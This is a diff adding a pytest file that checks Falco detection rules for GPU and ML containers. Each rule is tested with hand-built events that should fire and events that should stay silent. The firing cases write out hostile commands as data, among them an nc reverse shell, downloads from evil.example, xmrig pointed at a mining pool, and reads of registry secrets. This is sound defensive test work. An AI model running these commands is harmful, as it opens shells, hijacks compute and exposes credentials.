@@ -1,0 +1,316 @@
+# Copyright (c) 2026, the gpu_cluster.hardening authors
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Each rule fires on what it is for and is silent on what only looks like it.
+
+The events are written by hand, field by field as Falco 0.44 fills them; the recorded ones are in test_recorded.py.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from ansible_collections.gpu_cluster.hardening.plugins.module_utils.falco_evaluation import fires
+from ansible_collections.gpu_cluster.hardening.plugins.module_utils.falco_files import load_rules
+
+RULES = Path(__file__).resolve().parents[3] / "roles" / "falco" / "files" / "ml_rules.yaml"
+RULE_SET = load_rules([(RULES.name, RULES.read_text(encoding="utf-8"))])
+PYTHON = "/usr/bin/python3.11"
+TRAINER, SERVER, OTHER = "registry.internal/ml-trainer", "registry.internal/model-server", "docker.io/someone/tool"
+Event = dict[str, Any]
+
+
+def in_container(image: str | None, **fields: Any) -> Event:
+    """An event of a container; its image is None as long as Falco does not know it."""
+    known = {"container.image.repository": image, "container.name": "c", "container.image.tag": "1"} if image else {}
+    return {"container.id": "0123456789ab", "evt.failed": False, **known, **{dotted(k): v for k, v in fields.items()}}
+
+
+def dotted(name: str) -> str:
+    """``fd_name`` is the field ``fd.name``; ``proc_aexepath_2`` is ``proc.aexepath[2]``."""
+    first, *rest = name.split("_")
+    if rest and rest[-1].isdigit():
+        return f"{first}.{'_'.join(rest[:-1])}[{rest[-1]}]"
+    return {
+        "evt_is_open_read": "evt.is_open_read",
+        "evt_is_open_write": "evt.is_open_write",
+        "proc_is_exe_from_memfd": "proc.is_exe_from_memfd",
+        "fd_name_changed": "fd.name_changed",
+        "proc_env_gpus": "proc.env[NVIDIA_VISIBLE_DEVICES]",
+    }.get(name, ".".join([first, *rest]))
+
+
+def spawned(
+    command: str, image: str | None = TRAINER, exepath: str = "", parent: str = "/usr/bin/conmon", **more: Any
+) -> Event:
+    """A process has started: its command line, as ``proc.cmdline`` has it."""
+    name, _blank, args = command.partition(" ")
+    path = exepath or (PYTHON if name.startswith("python") else f"/usr/bin/{name}")
+    return in_container(
+        image, evt_type="execve", proc_cmdline=command, proc_name=name[:15], proc_args=args, proc_exepath=path,
+        proc_pexepath=parent, proc_pname=parent.rpartition("/")[2], **more,
+    )  # fmt: skip
+
+
+def below_python(command: str, **more: Any) -> Event:
+    return spawned(command, parent=PYTHON, **more)
+
+
+def opened(path: str, mode: str = "r", image: str | None = TRAINER, by: str = "cat", **more: Any) -> Event:
+    """A file was opened: ``r``, ``w`` or ``rw``."""
+    event = spawned(f"{by} {path}", image)
+    kind = {"fd_name": path, "fd_typechar": "f", "evt_is_open_read": "r" in mode, "evt_is_open_write": "w" in mode}
+    return {**event, **in_container(image, **{"evt_type": "openat", "fd_num": 3, **kind, **more})}
+
+
+def connected(address: str, port: int = 443, image: str | None = TRAINER, **more: Any) -> Event:
+    family = "6" if ":" in address else "4"
+    fields = {"fd_sip": address, "fd_sport": port, "fd_l4proto": "tcp", "fd_typechar": family, "evt_type": "connect"}
+    return in_container(image, **{"proc_name": "python3", "proc_exepath": PYTHON, **fields, **more})
+
+
+def sent(data: str, port: int = 443, image: str | None = TRAINER, event: str = "sendto", **more: Any) -> Event:
+    return connected("10.0.0.10", port, image, evt_type=event, evt_buffer=data, **more)
+
+
+def on_host(event: Event) -> Event:
+    """The same outside containers."""
+    bare = {key: value for key, value in event.items() if not key.startswith("container.")}
+    return {**bare, "container.id": "host", "container.name": "host", "container.image.repository": ""}
+
+
+HUB = "https://huggingface.co/org/model/resolve/main"
+DOWNLOAD = "Model File Download from Untrusted Source"
+LOOKUP = "Model Hub Looked Up in Container"
+WRITTEN = "Model File Written by Download"
+CHANGED = "Model File Changed in Serving Container"
+CHANGED_UNKNOWN = "Model File Changed in Container Not Yet Known"
+PICKLE = "Pickle Deserialization in ML Container"
+SHELL = "Shell or Network Tool Started by Python Model Server"
+SHARED_MEMORY = "Program Run from Shared Memory in Container"
+TEMPORARY = "Program Run from Temporary Directory in Container"
+GPU = "GPU Device Access by Non-ML Container"
+GPU_UNKNOWN = "GPU Device Access by Container Not Yet Known"
+DEVICE = "Device File or GPU Link Made in Container"
+DEVICE_UNKNOWN = "Device File or GPU Link Made in Container Not Yet Known"
+CAPABILITY = "GPU Management Capability Opened in Container"
+ALL_GPUS = "All GPUs Requested through Environment"
+ALL_GPUS_UNKNOWN = "All GPUs Requested through Environment by Container Not Yet Known"
+VOLUME = "GPU Requested through Volume Mount"
+PACKAGE = "Package Installed in ML Container"
+CREDENTIALS = "Registry Credentials Read by Another Process"
+MINER = "Crypto Miner Started in Container"
+POOL = "Mining Pool Contacted from Container"
+INTERNET = "Training Container Connects to Internet"
+INTERNET_UNKNOWN = "Container Not Yet Known Connects to Internet"
+
+FIRES: list[tuple[str, str, Event]] = [
+    (DOWNLOAD, "curl of a hub", spawned(f"curl -sO {HUB}/x.bin")),
+    (DOWNLOAD, "no image known yet", spawned(f"curl -sO {HUB}/x.bin", None)),
+    (DOWNLOAD, "upper case", spawned("wget HTTPS://EVIL.EXAMPLE/M.SAFETENSORS")),
+    (DOWNLOAD, "no scheme", spawned("curl evil.example/model.onnx")),
+    (DOWNLOAD, "approved name in the query", spawned("curl https://evil.example/m.pt?ref=registry.internal")),
+    (DOWNLOAD, "approved URL in the query", spawned("curl https://evil.example/m.pt?x=https://registry.internal/")),
+    (DOWNLOAD, "approved name as user", spawned("curl https://registry.internal@evil.example/m.pt")),
+    (DOWNLOAD, "approved name with password", spawned("curl https://registry.internal:80@evil.example/m.pt")),
+    (DOWNLOAD, "approved name as subdomain", spawned("curl https://registry.internal.evil.example/m.pt")),
+    (DOWNLOAD, "a second URL", spawned("curl https://registry.internal/a.pt https://evil.example/b.pt")),
+    (DOWNLOAD, "Python, any version", spawned(f"python3.12 get.py {HUB}/x.bin", exepath="/opt/conda/bin/python3.12")),
+    (DOWNLOAD, "a script with a #! line", spawned(f"get {HUB}/x", exepath=PYTHON)),
+    (DOWNLOAD, "hub client", spawned("huggingface-cli download org/model", exepath=PYTHON)),
+    (DOWNLOAD, "ollama", spawned("ollama pull llama3")),
+    (DOWNLOAD, "git clone", spawned("git clone https://huggingface.co/org/model")),
+    (DOWNLOAD, "weights without an ending of their own", spawned("curl http://192.0.2.1/weights.bin")),
+    (LOOKUP, "sendmmsg of glibc", sent("\x0bhuggingface\x02co\x00", 53, event="sendmmsg")),
+    (LOOKUP, "sendto of musl", sent("\x07civitai\x03com\x00", 53)),
+    (WRITTEN, "wget -O", opened("/tmp/x.safetensors", "w", by="wget -O")),
+    (WRITTEN, "creat", opened("/models/x.PT", "", by="curl -o", evt_type="creat")),
+    (WRITTEN, "cache of a hub", opened("/root/.cache/hub/models--o--m/blobs/ab12.incomplete", "w", by="python3")),
+    (CHANGED, "shell", opened("/models/m.safetensors", "w", SERVER, by="cp")),
+    (CHANGED, "the server itself", opened("/models/m.onnx", "rw", SERVER, by="python3")),
+    (CHANGED, "by namespace", {**opened("/models/m.pt", "w", OTHER), "k8s.ns.name": "ml-serving"}),
+    (CHANGED, "moved into place", in_container(SERVER, evt_type="renameat2", fs_path_target="/models/m.gguf")),
+    (CHANGED, "deleted", in_container(SERVER, evt_type="unlinkat", fs_path_name="/models/m.safetensors")),
+    (CHANGED, "linked over", in_container(SERVER, evt_type="symlinkat", fs_path_source="/models/m.safetensors")),
+    (CHANGED_UNKNOWN, "shell", opened("/models/m.safetensors", "w", None, by="cp")),
+    (CHANGED_UNKNOWN, "moved into place", in_container(None, evt_type="rename", fs_path_target="/models/m.gguf")),
+    (PICKLE, "open", opened("/models/m.pkl", by="python3")),
+    (PICKLE, "upper case", opened("/models/M.PTH", by="python3")),
+    (PICKLE, "a script with a #! line", {**opened("/m/m.joblib", by="serve"), "proc.exepath": PYTHON}),
+    (PICKLE, "old transformers", opened("/m/pytorch_model-00001-of-00002.bin", by="python3")),
+    (PICKLE, "in argv", spawned("python3 -c import torch; torch.load('m')")),
+    (SHELL, "os.system", below_python("sh -c id", exepath="/usr/bin/dash")),
+    (SHELL, "renamed shell by path", below_python("update-cache", exepath="/usr/bin/bash")),
+    (SHELL, "nc", below_python("nc 10.1.1.1 4444 -e /bin/sh")),
+    (SHELL, "no shell in between", below_python("id")),
+    (SHELL, "perl", below_python("perl -e exec")),
+    (SHELL, "grandparent", spawned("bash -i", parent="/usr/bin/env", proc_aexepath_2=PYTHON)),
+    (SHELL, "conda", spawned("sh -c id", parent="/opt/conda/bin/python3.10")),
+    (SHELL, "Triton", spawned("sh -c id", parent="/opt/tritonserver/bin/tritonserver", proc_aname_1="tritonserver")),
+    (SHELL, "a known command with more behind it", below_python("sh -c nvidia-smi; id")),
+    (SHELL, "no image known yet", below_python("sh -c id", image=None)),
+    (SHARED_MEMORY, "program", spawned("x", exepath="/dev/shm/x")),
+    (SHARED_MEMORY, "script with a #! line", spawned("x /dev/shm/x", exepath="/usr/bin/dash")),
+    (SHARED_MEMORY, "script given to a shell", spawned("sh /dev/shm/x.sh", exepath="/usr/bin/dash")),
+    (SHARED_MEMORY, "script given to Python", spawned("python3 /dev/shm/x.py")),
+    (SHARED_MEMORY, "given to the loader", spawned("ld-linux.so.2 /dev/shm/x", exepath="/usr/lib/ld-linux.so.2")),
+    (SHARED_MEMORY, "memfd", spawned("x", exepath="memfd:x", proc_is_exe_from_memfd=True)),
+    (SHARED_MEMORY, "no image known yet", spawned("x", None, "/dev/shm/x")),
+    (TEMPORARY, "program", spawned("x", exepath="/tmp/.cache/x")),
+    (TEMPORARY, "/var/tmp", spawned("x", exepath="/var/tmp/x")),
+    (GPU, "read", opened("/dev/nvidia0", image=OTHER)),
+    (GPU, "write only", opened("/dev/nvidiactl", "w", OTHER)),
+    (GPU, "refused", opened("/dev/nvidia-uvm", image=OTHER, evt_failed=True, fd_num=-1)),
+    (GPU, "openat2", opened("/dev/nvidia0", image=OTHER, evt_type="openat2")),
+    (GPU, "host's /dev", opened("/host/dev/nvidia3", image=OTHER)),
+    (GPU, "linked folder", opened("/tmp/d/nvidiactl", image=OTHER)),
+    (GPU, "other's root", opened("/proc/1/root/dev/nvidia0", image=OTHER)),
+    (GPU, "MIG", opened("/dev/nvidia-caps/nvidia-cap12", image=OTHER)),
+    (GPU, "approved name elsewhere", opened("/dev/nvidia0", image="docker.io/registry.internal/ml-trainer")),
+    (GPU_UNKNOWN, "missing", opened("/dev/nvidia0", image=None)),
+    (GPU_UNKNOWN, "empty", {**opened("/dev/nvidia0", image=None), "container.image.repository": ""}),
+    (DEVICE, "mknod in Python", in_container(OTHER, evt_type="mknodat", evt_arg_dev="49920", evt_arg_path="/tmp/g")),
+    (DEVICE, "mknod", spawned("mknod /tmp/gpu c 195 0", OTHER)),
+    (DEVICE, "ln -s", spawned("ln -s /dev/nvidia0 /tmp/g", OTHER)),
+    (DEVICE, "symlink", in_container(OTHER, evt_type="symlink", evt_arg_target="../dev/nvidia0")),
+    (DEVICE, "relative symlink", in_container(OTHER, evt_type="symlinkat", evt_arg_target="nvidia0")),
+    (DEVICE, "hard link", in_container(OTHER, evt_type="linkat", evt_arg_oldpath="/dev/nvidia0")),
+    (DEVICE, "mount", in_container(OTHER, evt_type="mount", evt_arg_dev="/dev/nvidia0")),
+    (DEVICE_UNKNOWN, "mknod", spawned("mknod /tmp/gpu c 195 0", None)),
+    (DEVICE_UNKNOWN, "symlinkat", in_container(None, evt_type="symlinkat", evt_arg_target="/dev/nvidia0")),
+    (CAPABILITY, "approved image", opened("/dev/nvidia-caps/nvidia-cap1")),
+    (CAPABILITY, "proc", opened("/proc/driver/nvidia/capabilities/mig/config", image=OTHER)),
+    (ALL_GPUS, "all", spawned("x", OTHER, proc_env_gpus="all")),
+    (ALL_GPUS, "by number", spawned("x", OTHER, proc_env_gpus="0,1")),
+    (ALL_GPUS, "by id", spawned("x", OTHER, proc_env_gpus="GPU-8a56a4bc")),
+    (ALL_GPUS_UNKNOWN, "first process", spawned("x", None, proc_env_gpus="all", proc_vpid=1)),
+    (
+        VOLUME,
+        "forged",
+        spawned("x", OTHER, container_mounts="/dev/null:/var/run/nvidia-container-devices/all:::private"),
+    ),
+    (PACKAGE, "pip", spawned("pip install evil", exepath=PYTHON)),
+    (PACKAGE, "python -m pip", spawned("python3 -m pip install --user evil")),
+    (PACKAGE, "apt-get", spawned("apt-get -y install nmap")),
+    (PACKAGE, "apk", spawned("apk add nmap", OTHER)),
+    (PACKAGE, "dpkg", spawned("dpkg -i x.deb")),
+    (PACKAGE, "inside Python", spawned("python3 -c import pip; pip.main(['install', 'evil'])")),
+    (PACKAGE, "uv", spawned("uv pip install evil")),
+    (CREDENTIALS, "cat", opened("/secrets/registry/registry-token", image=SERVER)),
+    (CREDENTIALS, "through ..data", opened("/secrets/registry/..data/signing-key", image=SERVER, by="base64")),
+    (CREDENTIALS, "refused", opened("/secrets/registry/signing-key", image=SERVER, evt_failed=True)),
+    (CREDENTIALS, "python -c", {**opened("/secrets/registry/x", by="python3"), "proc.args": "-c print(1)"}),
+    (CREDENTIALS, "at a terminal", opened("/secrets/registry/x", image=SERVER, by="python3", proc_tty=34816)),
+    (CREDENTIALS, "another image", opened("/secrets/registry/x", image=OTHER, by="python3")),
+    (CREDENTIALS, "docker", opened("/root/.docker/config.json", image=OTHER)),
+    (CREDENTIALS, "link", in_container(SERVER, evt_type="symlink", fs_path_target="/secrets/registry/signing-key")),
+    (MINER, "by name", spawned("xmrig", OTHER)),
+    (MINER, "by pool", spawned("worker -o stratum+tcp://pool.example:3333 -u x", OTHER)),
+    (MINER, "by option", spawned("python3 train.py --donate-level 1")),
+    (MINER, "by algorithm", spawned("worker -a ethash -o 10.0.0.1:8080", OTHER)),
+    (POOL, "DNS", sent("\x03xmr\x089nanopool\x03org", 53, OTHER, event="sendmmsg")),
+    (POOL, "protocol", sent('{"id":1,"method":"mining.subscribe"}', 8080, OTHER)),
+    (POOL, "port", connected("203.0.113.7", 3333, OTHER)),
+    (INTERNET, "IPv4", connected("203.0.113.7")),
+    (INTERNET, "IPv6", connected("2001:db8::7")),
+    (INTERNET, "failed", connected("203.0.113.7", evt_failed=True, evt_rawres=-101)),
+    (INTERNET, "UDP", connected("203.0.113.7", evt_type="sendto", fd_l4proto="udp", fd_name_changed=True)),
+    (INTERNET_UNKNOWN, "IPv4", connected("203.0.113.7", image=None)),
+    (INTERNET, "by namespace", {**connected("203.0.113.7", image=OTHER), "k8s.ns.name": "ml-training"}),
+]
+
+SILENT: list[tuple[str, str, Event]] = [
+    (DOWNLOAD, "approved", spawned("curl -sO https://registry.internal/models/x.safetensors")),
+    (DOWNLOAD, "approved, with port and header", spawned("curl -H X: y https://registry.internal:8443/m.pt -o m.pt")),
+    (DOWNLOAD, "no model", spawned("curl https://pypi.internal/simple/")),
+    (DOWNLOAD, "a local server with a model's name", spawned("python3 serve.py good.pkl --model m.onnx")),
+    (DOWNLOAD, "host process", on_host(spawned(f"curl {HUB}/x.bin"))),
+    (LOOKUP, "another name", sent("\x08registry\x08internal\x00", 53, event="sendmmsg")),
+    (LOOKUP, "another port", sent("GET huggingface", 80)),
+    (LOOKUP, "a DNS server on the host", on_host(sent("\x0bhuggingface\x02co\x00", 53))),
+    (WRITTEN, "approved", {**opened("/m/x.pt", "w", by="wget"), "proc.cmdline": "wget https://registry.internal/x.pt"}),
+    (WRITTEN, "a checkpoint of the trainer", opened("/output/epoch1.ckpt", "w", by="python3")),
+    (CHANGED, "reading", opened("/models/m.safetensors", "r", SERVER, by="python3")),
+    (CHANGED, "a trainer", opened("/output/m.safetensors", "w", TRAINER, by="python3")),
+    (CHANGED, "a log", opened("/var/log/server.log", "w", SERVER, by="python3")),
+    (CHANGED_UNKNOWN, "reading", opened("/models/m.safetensors", "r", None)),
+    (CHANGED_UNKNOWN, "known", opened("/models/m.safetensors", "w", SERVER)),
+    (PICKLE, "safetensors", opened("/models/m.safetensors", by="python3")),
+    (PICKLE, "not Python", opened("/models/m.pkl", by="sha256sum")),
+    (PICKLE, "on the host", on_host(spawned("python3 -c pickle.load(f)"))),
+    (SHELL, "entry point", spawned("sh -c exec python3 serve.py", exepath="/usr/bin/dash")),
+    (SHELL, "a probe of the kubelet", spawned("sh -c test -f /ready", parent="/usr/bin/containerd-shim")),
+    (SHELL, "known command", below_python("sh -c nvidia-smi", exepath="/usr/bin/dash")),
+    (SHELL, "worker of the server", below_python("python3 -m worker")),
+    (SHELL, "compiler", below_python("gcc -O2 kernel.c")),
+    (SHELL, "on the host", on_host(below_python("sh -c id"))),
+    (SHARED_MEMORY, "data there", spawned("python3 train.py --cache /dev/shm/cache")),
+    (SHARED_MEMORY, "the runtime itself", spawned("runc:[2:INIT]", None, "/memfd:runc", proc_is_exe_from_memfd=True)),
+    (TEMPORARY, "argument only", spawned("ls /tmp/x")),
+    (GPU, "approved", opened("/dev/nvidia0")),
+    (GPU, "device plugin", opened("/dev/nvidiactl", image="nvcr.io/nvidia/k8s-device-plugin")),
+    (GPU, "not known yet", opened("/dev/nvidia0", image=None)),
+    (GPU, "host process", on_host(opened("/dev/nvidia0"))),
+    (GPU, "another file", opened("/usr/share/doc/nvidia0.txt", image=OTHER)),
+    (GPU_UNKNOWN, "known", opened("/dev/nvidia0", image=OTHER)),
+    (GPU_UNKNOWN, "host process", on_host(opened("/dev/nvidia0"))),
+    (GPU_UNKNOWN, "the runtime", {**opened("/dev/nvidia0", image=None), "proc.name": "runc:[2:INIT]"}),
+    (DEVICE, "named pipe", in_container(OTHER, evt_type="mknodat", evt_arg_dev="0", evt_arg_path="/tmp/p")),
+    (DEVICE, "link to a library", in_container(OTHER, evt_type="symlinkat", evt_arg_target="libnvidia-ml.so.1")),
+    (DEVICE, "another link", spawned("ln -s /usr/lib/libnvidia-ml.so.1 /tmp/x", OTHER)),
+    (DEVICE, "approved image", spawned("mknod /dev/nvidia0 c 195 0")),
+    (DEVICE_UNKNOWN, "runtime", in_container(None, evt_type="mknod", evt_arg_dev="259", proc_name="runc:[1:CHILD]")),
+    (DEVICE_UNKNOWN, "known", spawned("mknod /tmp/gpu c 195 0", OTHER)),
+    (CAPABILITY, "own instance", opened("/dev/nvidia-caps/nvidia-cap21")),
+    (CAPABILITY, "exporter", opened("/dev/nvidia-caps/nvidia-cap2", image="nvcr.io/nvidia/k8s/dcgm-exporter")),
+    (ALL_GPUS, "approved image", spawned("x", TRAINER, proc_env_gpus="all")),
+    (ALL_GPUS, "none", spawned("x", OTHER, proc_env_gpus="void")),
+    (ALL_GPUS, "not set", spawned("x", OTHER)),
+    (ALL_GPUS_UNKNOWN, "not the first process", spawned("x", None, proc_env_gpus="all", proc_vpid=12)),
+    (ALL_GPUS_UNKNOWN, "known", spawned("x", OTHER, proc_env_gpus="all", proc_vpid=1)),
+    (VOLUME, "another mount", spawned("x", OTHER, container_mounts="/data:/data:::private")),
+    (VOLUME, "approved image", spawned("x", container_mounts="/dev/null:/var/run/nvidia-container-devices/all:::")),
+    (PACKAGE, "pip list", spawned("pip list", exepath=PYTHON)),
+    (PACKAGE, "a script called install", spawned("python3 train.py --install-hooks")),
+    (PACKAGE, "dpkg -l", spawned("dpkg -l")),
+    (CREDENTIALS, "the model server", opened("/secrets/registry/registry-token", image=SERVER, by="python3")),
+    (CREDENTIALS, "Triton", opened("/secrets/registry/registry-token", image=SERVER, by="tritonserver")),
+    (CREDENTIALS, "another secret", opened("/secrets/other/token", image=SERVER)),
+    (CREDENTIALS, "a name that begins alike", opened("/secrets/registry-public/ca.crt", image=SERVER)),
+    (CREDENTIALS, "the kubelet", on_host(opened("/secrets/registry/registry-token"))),
+    (MINER, "training", spawned("python3 train.py --algo ppo")),
+    (MINER, "a word that ends alike", spawned("python3 gethash.py")),
+    (MINER, "text", spawned("grep -r miner /opt")),
+    (POOL, "another name", sent("\x08registry\x08internal\x00", 53, OTHER)),
+    (POOL, "internal port", connected("10.0.0.7", 3333, OTHER)),
+    (INTERNET, "data lake", connected("10.0.100.7")),
+    (INTERNET, "loopback", connected("::1")),
+    (INTERNET, "link local", connected("169.254.20.10", 53)),
+    (INTERNET, "unique local", connected("fd00::10")),
+    (INTERNET_UNKNOWN, "data lake", connected("10.0.100.7", image=None)),
+    (INTERNET_UNKNOWN, "known", connected("203.0.113.7")),
+    (INTERNET, "unix socket", in_container(TRAINER, evt_type="connect", fd_typechar="u")),
+    (INTERNET, "another stage", connected("203.0.113.7", image=SERVER)),
+]  # fmt: skip
+
+
+def cases(table: list[tuple[str, str, Event]]) -> list[Any]:
+    return [pytest.param(rule, event, id=f"{rule}: {what}") for rule, what, event in table]
+
+
+@pytest.mark.parametrize(("rule", "event"), cases(FIRES))
+def test_the_rule_fires(rule: str, event: Event) -> None:
+    assert fires(RULE_SET, rule, event)
+
+
+@pytest.mark.parametrize(("rule", "event"), cases(SILENT))
+def test_the_rule_is_silent(rule: str, event: Event) -> None:
+    assert not fires(RULE_SET, rule, event)
+
+
+def test_every_rule_has_events_of_both_kinds() -> None:
+    names = {item["rule"] for item in yaml.safe_load(RULES.read_text(encoding="utf-8")) if "rule" in item}
+    assert names == {rule for rule, _what, _event in FIRES} == {rule for rule, _what, _event in SILENT}
